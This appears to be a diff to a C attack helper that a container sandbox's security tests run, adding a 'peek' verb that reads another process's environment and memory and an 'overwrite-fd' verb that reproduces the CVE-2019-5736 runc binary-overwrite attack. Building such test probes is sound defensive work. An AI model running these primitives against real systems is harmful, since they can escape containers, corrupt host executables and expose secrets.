@@ -4,7 +4,8 @@
  * Built static at test time (tests/security/conftest.py) and copied into the
  * test container's rootfs as /bin/nsattack.  Every verb prints one result
  * per line, "key value ...", for the tests to parse.  Nothing here ever
- * writes into a file it managed to open for writing: opening is the proof.
+ * writes into a file it managed to open for writing (but overwrite-fd, below):
+ * opening is the proof.
  *
  *   open-fds                   every open fd: "fd N TARGET"
  *   ptrace-attach PID          "attached PID" (exit 0) or "denied PID ERRNO" (exit 1)
@@ -14,6 +15,17 @@
  *                              process, then try O_WRONLY through the fd:
  *                              "opath PID EXE", "wronly PID EXE" per success
  *   write-exe PATH             open(PATH, O_WRONLY): "write-open ok" or "write-open ERRNO"
+ *   peek PID                   read another process's /proc/PID/environ ("environ ok",
+ *                              then "env ENTRY" per string, or "environ ERRNO"), and the
+ *                              same strings from its memory (/proc/PID/mem at env_start):
+ *                              "mem ok", "memenv ENTRY" per string, or "mem ERRNO"
+ *   overwrite-fd FD SECONDS    CVE-2019-5736 to the end: FD is a file inherited from the
+ *                              process that exec'd us (its /proc/self/exe): "holding EXE";
+ *                              retry opening it for writing until SECONDS are over, and
+ *                              once open, WRITE "PWND" at its start: "written EXE" or
+ *                              "write-failed EXE ERRNO"; else "never-writable EXE ERRNO".
+ *                              The one verb that writes: for tests whose target is a
+ *                              throwaway copy (a --copies venv's interpreter).
  *   tiocsti FD TEXT            push TEXT into FD's input queue: "tiocsti ok" or "tiocsti ERRNO"
  *   keyctl show                "session ID DESCRIPTION" of the session keyring
  *   keyctl read ID             "read ok DATA" or "read ERRNO"
@@ -211,6 +223,31 @@ static int hammer(double seconds, int (*fn)(pid_t))
     return 0;
 }
 
+static int overwrite_fd(int fd, double seconds)
+{
+    char via[64], exe[PATH_MAX];
+    snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
+    ssize_t n = readlink(via, exe, sizeof exe - 1);
+    exe[n < 0 ? 0 : n] = 0;
+    printf("holding %s\n", exe);
+    double end = now() + seconds;
+    while (now() < end) {
+        int w = open(via, O_WRONLY | O_CLOEXEC);
+        if (w < 0) {
+            usleep(2000); /* ETXTBSY while something runs it: wait */
+            continue;
+        }
+        if (pwrite(w, "PWND", 4, 0) == 4)
+            printf("written %s\n", exe);
+        else
+            printf("write-failed %s %s\n", exe, errname(errno));
+        close(w);
+        return 0;
+    }
+    printf("never-writable %s %s\n", exe, errname(errno));
+    return 1;
+}
+
 static int write_exe(const char *path)
 {
     int fd = open(path, O_WRONLY | O_CLOEXEC);
@@ -400,6 +437,62 @@ static int procview(const char *dir)
     return 0;
 }
 
+/* Print the NUL-separated strings of BUF, one "KEY STRING" line each. */
+static void print_strings(const char *key, const char *buf, ssize_t len)
+{
+    for (ssize_t i = 0; i < len; i += strlen(buf + i) + 1)
+        if (buf[i])
+            printf("%s %s\n", key, buf + i);
+}
+
+static int peek(pid_t pid)
+{
+    static char buf[65536];
+    char path[64];
+    /* What /proc/PID/environ shows: PTRACE_MODE_READ (proc(5)). */
+    snprintf(path, sizeof path, "/proc/%d/environ", pid);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
+    if (n < 0) {
+        printf("environ %s\n", errname(errno));
+    } else {
+        printf("environ ok\n");
+        buf[n] = 0;
+        print_strings("env", buf, n);
+    }
+    if (fd >= 0)
+        close(fd);
+    /* The same strings read from its memory: PTRACE_MODE_ATTACH (proc(5), /proc/PID/mem). */
+    unsigned long start = 0, end = 0;
+    snprintf(path, sizeof path, "/proc/%d/stat", pid);
+    FILE *f = fopen(path, "r");
+    if (f && fgets(buf, sizeof buf, f)) {
+        char *p = strrchr(buf, ')');
+        for (int field = 2; p && field < 50; field++)
+            p = strchr(p + 1, ' ');
+        if (p)
+            sscanf(p + 1, "%lu %lu", &start, &end);
+    }
+    if (f)
+        fclose(f);
+    snprintf(path, sizeof path, "/proc/%d/mem", pid);
+    fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) {
+        printf("mem %s\n", errname(errno));
+        return 0;
+    }
+    size_t want = end > start && end - start < sizeof buf ? end - start : 0;
+    n = pread(fd, buf, want, (off_t)start);
+    if (n < 0) {
+        printf("mem %s\n", errname(errno));
+    } else {
+        printf("mem ok\n");
+        print_strings("memenv", buf, n);
+    }
+    close(fd);
+    return 0;
+}
+
 static int caps(void)
 {
     FILE *f = fopen("/proc/self/status", "r");
@@ -444,6 +537,8 @@ int main(int argc, char **argv)
         return hammer(atof(argv[2]), try_exe);
     if (!strcmp(verb, "write-exe") && argc > 2)
         return write_exe(argv[2]);
+    if (!strcmp(verb, "overwrite-fd") && argc > 3)
+        return overwrite_fd(atoi(argv[2]), atof(argv[3]));
     if (!strcmp(verb, "tiocsti") && argc > 3)
         return tiocsti(atoi(argv[2]), argv[3]);
     if (!strcmp(verb, "keyctl"))
@@ -460,6 +555,8 @@ int main(int argc, char **argv)
         return swap(argv[2], argv[3], atof(argv[4]), argc > 5 ? atol(argv[5]) : 0);
     if (!strcmp(verb, "procview") && argc > 2)
         return procview(argv[2]);
+    if (!strcmp(verb, "peek") && argc > 2)
+        return peek(atoi(argv[2]));
     if (!strcmp(verb, "caps"))
         return caps();
     if (!strcmp(verb, "tty"))
